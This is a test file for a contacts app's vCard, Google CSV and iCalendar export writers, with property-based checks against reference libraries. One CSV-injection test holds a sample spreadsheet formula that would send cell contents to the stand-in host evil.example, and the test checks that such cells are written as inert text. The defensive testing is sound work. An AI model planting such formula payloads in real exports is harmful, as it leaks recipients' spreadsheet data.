import fc from 'fast-check'
import ICAL from 'ical.js'
import { parse as parseCsv } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { stringify as csvStringify } from 'csv-stringify/sync'
import { cleanText, CRLF, foldLine, MAX_LINE_OCTETS, oneLine } from '../../src/exports/content-lines.ts'
import { categoriesOf, contactToVCard, emailsOf, otherProfilesOf, phonesOf, SOCIAL_PROFILE_TYPES, vcardDate, type ExportContact } from '../../src/exports/vcard.ts'
import { contactToCsvCells, CSV_STRINGIFY_OPTIONS, csvRows, googleCsvHeader, neutralizeFormula, restoreFormulaText, splitName } from '../../src/exports/google-csv.ts'
import { CALENDAR_TAIL, calendarHead, eventToVEvent, suggestionToVEvent } from '../../src/exports/icalendar.ts'
import { ExportLimiter } from '../../src/exports/export-limit.ts'

/** A made-up contact with every exported field, and text that needs escaping. */
const fixture: ExportContact = {
  id: '0193a000-0000-7000-8000-000000000001',
  name: 'Zoë Example, Jr; "Z"',
  email: null,
  phone: null,
  emails: ['zoe@example.com', 'z.work@example.org'],
  phones: ['+49 30 1234567', '(555) 010-0199'],
  linkedIn: 'https://www.linkedin.com/in/zoe-example',
  instagram: '@zoe.example',
  xHandle: '@zoex',
  otherSocialMedia: { mastodon: 'https://social.example/@zoe', ignored: 42 },
  location: 'Kreuzberg, Berlin; DE',
  timezone: 'Europe/Berlin',
  customNotes: 'Met at the café.\r\nLikes: tea, chess; long walks \\ back-slashes. ' + 'é'.repeat(30),
  tags: ['chess', 'Friends'],
  groupIds: ['g-1', 'g-unknown'],
  birthday: '--03-15',
  externalId: 'urn:uuid:fixture-1',
}
const groups = new Map([['g-1', 'Friends']])

const octets = (line: string) => Buffer.byteLength(line, 'utf8')
const linesOf = (text: string) => text.split('\r\n').slice(0, -1)

describe('foldLine', () => {
  it('folds at 75 octets, continuation space included, never inside a UTF-8 sequence', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }).filter((s) => !/[\r\n]/.test(s)), (line) => {
        const folded = foldLine(line)
        const parts = folded.split('\r\n')
        expect(parts.every((part) => octets(part) <= MAX_LINE_OCTETS)).toBe(true)
        expect(parts.slice(1).every((part) => part.startsWith(' '))).toBe(true)
        expect(parts.map((part, i) => (i === 0 ? part : part.slice(1))).join('')).toBe(line)
      }),
    )
  })
})

describe('vCard 4.0', () => {
  it('writes the fixture exactly: escaping, RFC 6868 parameters, PREF, BDAY without year, folding', () => {
    expect(contactToVCard(fixture, groups)).toBe(
      [
        'BEGIN:VCARD',
        'VERSION:4.0',
        'UID:urn:uuid:fixture-1',
        'FN:Zoë Example\\, Jr; "Z"',
        'EMAIL;PREF=1:zoe@example.com',
        'EMAIL:z.work@example.org',
        'TEL;PREF=1;VALUE=TEXT:+49 30 1234567',
        'TEL;VALUE=TEXT:(555) 010-0199',
        'X-SOCIALPROFILE;TYPE=linkedin:https://www.linkedin.com/in/zoe-example',
        'X-SOCIALPROFILE;TYPE=instagram:@zoe.example',
        'X-SOCIALPROFILE;TYPE=x:@zoex',
        'X-SOCIALPROFILE;TYPE=mastodon:https://social.example/@zoe',
        'ADR;LABEL="Kreuzberg, Berlin; DE":;;Kreuzberg\\, Berlin\\; DE;;;;',
        'TZ:Europe/Berlin',
        'NOTE:Met at the café.\\nLikes: tea\\, chess; long walks \\\\ back-slashes. é',
        ` ${'é'.repeat(29)}`, // the first line is 74 octets: one more é (2 octets) would pass 75
        'CATEGORIES:Friends,chess',
        'BDAY:--0315',
        'END:VCARD',
        '',
      ].join('\r\n'),
    )
  })

  it('reads back with ical.js to the same values', () => {
    const card = new ICAL.Component(ICAL.parse(contactToVCard(fixture, groups)))
    expect(card.getFirstPropertyValue('fn')).toBe(fixture.name)
    expect(card.getAllProperties('email').map((p) => p.getFirstValue())).toEqual(fixture.emails)
    expect(card.getAllProperties('tel').map((p) => p.getFirstValue())).toEqual(fixture.phones)
    expect(card.getFirstPropertyValue('note')).toBe(fixture.customNotes!.replace('\r\n', '\n'))
    expect(card.getFirstProperty('adr')!.getParameter('label')).toBe(fixture.location)
    expect(card.getFirstProperty('categories')!.getValues()).toEqual(['Friends', 'chess'])
    expect(String(card.getFirstPropertyValue('bday'))).toBe('--03-15')
  })

  it('writes a full birthday as YYYYMMDD, uses the id without externalId, the single email/phone of an old contact, and leaves empty fields out', () => {
    const card = contactToVCard(
      { ...fixture, externalId: null, emails: [], phones: [], email: 'old@example.com', phone: '+1 555 0100', birthday: '1990-01-02', linkedIn: null, instagram: null, xHandle: null, otherSocialMedia: null, location: null, timezone: null, customNotes: null, tags: [], groupIds: [] },
      groups,
    )
    expect(card).toBe(
      ['BEGIN:VCARD', 'VERSION:4.0', `UID:${fixture.id}`, 'FN:Zoë Example\\, Jr; "Z"', 'EMAIL;PREF=1:old@example.com', 'TEL;PREF=1;VALUE=TEXT:+1 555 0100', 'BDAY:19900102', 'END:VCARD', ''].join('\r\n'),
    )
    expect(vcardDate('not a date')).toBeNull()
  })

  it('any text survives a card: lines of at most 75 octets, and ical.js reads the same name, note and location back', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 300 }).filter((s) => s.trim().length > 0)
    fc.assert(
      fc.property(text, text, text, (name, note, location) => {
        const written = contactToVCard({ ...fixture, name, customNotes: note, location }, groups)
        expect(linesOf(written).every((line) => octets(line) <= MAX_LINE_OCTETS)).toBe(true)
        const card = new ICAL.Component(ICAL.parse(written))
        const clean = (s: string) => s.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '') // eslint-disable-line no-control-regex
        expect(card.getFirstPropertyValue('fn')).toBe(clean(name))
        expect(card.getFirstPropertyValue('note')).toBe(clean(note))
        expect(card.getFirstProperty('adr')!.getParameter('label')).toBe(clean(location))
      }),
      { numRuns: 300 },
    )
  })
})

/** The same card built through ical.js's Component and stringify (the oracle of the hand-written writer). */
function contactToVCardWithIcalJs(contact: ExportContact, groupNames: ReadonlyMap<string, string>): string {
  const card = new ICAL.Component('vcard')
  const add = (name: string, value: string | string[], params: Record<string, string> = {}, type?: string) => {
    const prop = new ICAL.Property(name, card)
    if (type) prop.resetType(type)
    for (const [key, param] of Object.entries(params)) prop.setParameter(key, param)
    if (Array.isArray(value)) prop.setValues(value.map(cleanText))
    else prop.setValue(cleanText(value))
    card.addProperty(prop)
  }
  add('version', '4.0')
  add('uid', oneLine(contact.externalId ?? contact.id))
  add('fn', contact.name)
  emailsOf(contact).forEach((email, i) => add('email', oneLine(email), i === 0 ? { pref: '1' } : {}))
  phonesOf(contact).forEach((phone, i) => add('tel', oneLine(phone), i === 0 ? { pref: '1' } : {}, 'text'))
  for (const [field, type] of Object.entries(SOCIAL_PROFILE_TYPES) as [keyof typeof SOCIAL_PROFILE_TYPES, string][]) {
    if (contact[field]) add('x-socialprofile', oneLine(contact[field]!), { type })
  }
  for (const [label, url] of otherProfilesOf(contact.otherSocialMedia)) add('x-socialprofile', oneLine(url), { type: oneLine(label) })
  if (contact.location) {
    const adr = new ICAL.Property('adr', card)
    adr.setParameter('label', cleanText(contact.location))
    adr.setValue(['', '', cleanText(contact.location), '', '', '', ''])
    card.addProperty(adr)
  }
  if (contact.timezone) add('tz', oneLine(contact.timezone), {}, 'text')
  if (contact.customNotes) add('note', contact.customNotes)
  const categories = categoriesOf(contact, groupNames)
  if (categories.length > 0) add('categories', categories)
  const birthday = contact.birthday ? vcardDate(contact.birthday) : null
  if (birthday) add('bday', birthday, {}, 'date-and-or-time')
  const anniversary = contact.anniversary ? vcardDate(contact.anniversary) : null
  if (anniversary) add('anniversary', anniversary, {}, 'date-and-or-time')
  const design = ICAL.design.getDesignSet('vcard')
  let text = `BEGIN:VCARD${CRLF}`
  for (const prop of card.getAllProperties()) text += foldLine(ICAL.stringify.property(prop.toJSON(), design, true)) + CRLF
  return `${text}END:VCARD${CRLF}`
}

const anyText = fc.string({ unit: 'grapheme', maxLength: 80 })
const someText = anyText.filter((s) => s.trim() !== '')
const anyContact: fc.Arbitrary<ExportContact> = fc.record({
  id: fc.uuid(),
  name: someText,
  email: fc.option(someText, { nil: null }),
  phone: fc.option(someText, { nil: null }),
  emails: fc.array(someText, { maxLength: 3 }),
  phones: fc.array(someText, { maxLength: 3 }),
  linkedIn: fc.option(fc.webUrl(), { nil: null }),
  instagram: fc.option(fc.stringMatching(/^@[a-z0-9._]{1,20}$/), { nil: null }),
  xHandle: fc.option(fc.stringMatching(/^@[A-Za-z0-9_]{1,15}$/), { nil: null }),
  otherSocialMedia: fc.option(fc.dictionary(fc.stringMatching(/^[a-z]{1,10}$/), fc.webUrl(), { maxKeys: 3 }), { nil: null }),
  location: fc.option(someText, { nil: null }),
  timezone: fc.option(fc.constantFrom('Europe/Berlin', 'America/New_York', 'UTC'), { nil: null }),
  customNotes: fc.option(fc.string({ unit: 'grapheme', maxLength: 300 }), { nil: null }),
  tags: fc.array(someText, { maxLength: 3 }),
  groupIds: fc.array(fc.constantFrom('g-1', 'g-2', 'g-missing'), { maxLength: 3 }),
  birthday: fc.option(fc.oneof(fc.date({ min: new Date('1900-01-01'), max: new Date('2020-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)), fc.date({ min: new Date('2000-01-01'), max: new Date('2000-12-31'), noInvalidDate: true }).map((d) => `--${d.toISOString().slice(5, 10)}`)), { nil: null }),
  anniversary: fc.option(fc.constantFrom('2010-06-30', '--02-29', '1999-12-31'), { nil: null }),
  externalId: fc.option(someText, { nil: null }),
})
const manyGroups = new Map([['g-1', 'Friends, old'], ['g-2', 'Work;\\Team']])

describe('the hand-written writers against their libraries', () => {
  it('a card is byte for byte what ical.js writes (then folded at 75 octets)', () => {
    expect(contactToVCard(fixture, groups)).toBe(contactToVCardWithIcalJs(fixture, groups))
    fc.assert(
      fc.property(anyContact, (contact) => {
        expect(contactToVCard(contact, manyGroups)).toBe(contactToVCardWithIcalJs(contact, manyGroups))
      }),
      { numRuns: 500 },
    )
  })

  it('CSV rows are byte for byte what csv-stringify writes', () => {
    const counts = { emails: 2, phones: 2, websites: 2 }
    fc.assert(
      fc.property(fc.array(anyContact, { maxLength: 5 }), (contacts) => {
        const rows = [googleCsvHeader(counts), ...contacts.map((contact) => contactToCsvCells(contact, manyGroups, counts))]
        expect(csvRows(rows)).toBe(csvStringify(rows, CSV_STRINGIFY_OPTIONS))
      }),
      { numRuns: 300 },
    )
  })
})

describe('Google CSV', () => {
  const counts = { emails: 3, phones: 1, websites: 3 }
  it('writes the header and the fixture exactly (quoting of commas, quotes, newlines; overflow joined with " ::: ")', () => {
    expect(csvRows([googleCsvHeader(counts), contactToCsvCells(fixture, groups, counts)])).toBe(
      'Name,Given Name,Family Name,Birthday,Notes,Labels,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,E-mail 3 - Label,E-mail 3 - Value,' +
        'Phone 1 - Label,Phone 1 - Value,Address 1 - Label,Address 1 - Formatted,Website 1 - Label,Website 1 - Value,Website 2 - Label,Website 2 - Value,' +
        'Website 3 - Label,Website 3 - Value,Custom Field 1 - Label,Custom Field 1 - Value,Custom Field 2 - Label,Custom Field 2 - Value\r\n' +
        '"Zoë Example, Jr; ""Z""",Zoë,"Example, Jr; ""Z""",--03-15,"Met at the café.\nLikes: tea, chess; long walks \\ back-slashes. ' +
        'é'.repeat(30) +
        '",Friends ::: chess,Other,zoe@example.com,Other,z.work@example.org,,,Other,+49 30 1234567 ::: (555) 010-0199,Other,"Kreuzberg, Berlin; DE",' +
        // A handle starting with @ is written as text ('@), as a spreadsheet would run it as a formula.
        "linkedin,https://www.linkedin.com/in/zoe-example,instagram,'@zoe.example,x ::: mastodon,'@zoex ::: https://social.example/@zoe," +
        'Time Zone,Europe/Berlin,UID,urn:uuid:fixture-1\r\n',
    )
  })

  it('has at least one numbered column of each kind, so the layout is recognisable in an empty export', () => {
    expect(googleCsvHeader({ emails: 0, phones: 0, websites: 0 })).toContain('E-mail 1 - Value')
    expect(splitName('Cher')).toEqual(['Cher', ''])
  })

  it('writes a cell a spreadsheet would run as a formula as text (leading \'), phone numbers as they are (CSV injection)', () => {
    const row = contactToCsvCells(
      { ...fixture, name: '=HYPERLINK("http://evil.example/?"&A1,"x")', customNotes: '@SUM(1+1)', location: '-2+3', phone: '+49 30 1234567', phones: ['+49 30 1234567'] },
      groups,
      counts,
    )
    expect(row[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")')
    expect(row[4]).toBe("'@SUM(1+1)")
    expect(row).toContain("'-2+3")
    expect(row).toContain('+49 30 1234567')
    for (const cell of row) expect(/^[=@\t\r]/.test(cell) || (/^[+-]/.test(cell) && !/^[+-][\d\s()./:-]*$/.test(cell))).toBe(false)
  })

  it('restoreFormulaText gives back exactly what neutralizeFormula was given (property)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^'*[=@+\-\t\r'].{0,10}$/)), (cell) => {
        expect(restoreFormulaText(neutralizeFormula(cell))).toBe(cell)
      }),
      { numRuns: 2000 },
    )
  })

  it('any cells survive: csv-parse reads the same rows back', () => {
    const cell = fc.string({ unit: 'grapheme', maxLength: 100 })
    fc.assert(
      fc.property(cell, cell, cell, (name, note, location) => {
        const row = contactToCsvCells({ ...fixture, name, customNotes: note, location }, groups, counts)
        const [parsed] = parseCsv(csvRows([row]), { relax_column_count: false }) as string[][]
        expect(parsed).toEqual(row)
      }),
      { numRuns: 300 },
    )
  })
})

describe('iCalendar', () => {
  const now = new Date('2026-11-30T08:00:00Z')
  it('writes busy events and accepted suggestions exactly, with UIDs on the domain and escaped text', () => {
    const text =
      calendarHead({ name: 'Catch-ups', refreshMinutes: 5 }) +
      eventToVEvent({ id: 'ev-1', title: 'Dentist; then, lunch\nmaybe', startsAt: new Date('2026-12-01T09:00:00Z'), endsAt: new Date('2026-12-01T10:00:00Z') }, 'app.example', now) +
      suggestionToVEvent(
        { id: 'sg_c1_1_2', contactName: 'Zoë', reason: 'Overdue by 3 weeks, inner circle', slotStart: new Date('2026-12-01T11:00:00Z'), slotEnd: new Date('2026-12-01T11:30:00Z'), updatedAt: new Date('2026-11-29T10:00:00Z') },
        'app.example',
      ) +
      CALENDAR_TAIL
    expect(text).toBe(
      [
        'BEGIN:VCALENDAR',
        'VERSION:2.0',
        'PRODID:-//Suggestions server//Export//EN',
        'CALSCALE:GREGORIAN',
        'X-WR-CALNAME:Catch-ups',
        'REFRESH-INTERVAL;VALUE=DURATION:PT5M',
        'X-PUBLISHED-TTL:PT5M',
        'BEGIN:VEVENT',
        'UID:ev-1@app.example',
        'DTSTAMP:20261130T080000Z',
        'DTSTART:20261201T090000Z',
        'DTEND:20261201T100000Z',
        'SUMMARY:Dentist\\; then\\, lunch\\nmaybe',
        'TRANSP:OPAQUE',
        'END:VEVENT',
        'BEGIN:VEVENT',
        'UID:sg_c1_1_2@app.example',
        'DTSTAMP:20261129T100000Z',
        'LAST-MODIFIED:20261129T100000Z',
        'DTSTART:20261201T110000Z',
        'DTEND:20261201T113000Z',
        'SUMMARY:Catch up with Zoë',
        'DESCRIPTION:Overdue by 3 weeks\\, inner circle',
        'STATUS:CONFIRMED',
        'END:VEVENT',
        'END:VCALENDAR',
        '',
      ].join('\r\n'),
    )
    const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v))
    expect(events.map((e) => [e.uid, e.summary, e.startDate.toJSDate().toISOString()])).toEqual([
      ['ev-1@app.example', 'Dentist; then, lunch\nmaybe', '2026-12-01T09:00:00.000Z'],
      ['sg_c1_1_2@app.example', 'Catch up with Zoë', '2026-12-01T11:00:00.000Z'],
    ])
  })

  it('folds long summaries at 75 octets', () => {
    const text = suggestionToVEvent({ id: 'sg', contactName: 'ü'.repeat(100), reason: 'r', slotStart: now, slotEnd: now, updatedAt: now }, 'd')
    expect(linesOf(text).every((line) => octets(line) <= MAX_LINE_OCTETS)).toBe(true)
    expect(linesOf(text).some((line) => line.startsWith(' '))).toBe(true)
  })
})

describe('ExportLimiter', () => {
  it('gives each user at most N places, freed once each', () => {
    const limiter = new ExportLimiter(2)
    const a = limiter.tryAcquire('u1')!
    const b = limiter.tryAcquire('u1')!
    expect(limiter.tryAcquire('u1')).toBeNull()
    expect(limiter.tryAcquire('u2')).not.toBeNull()
    a()
    a()
    expect(limiter.total()).toBe(2)
    expect(limiter.tryAcquire('u1')).not.toBeNull()
    b()
  })
})
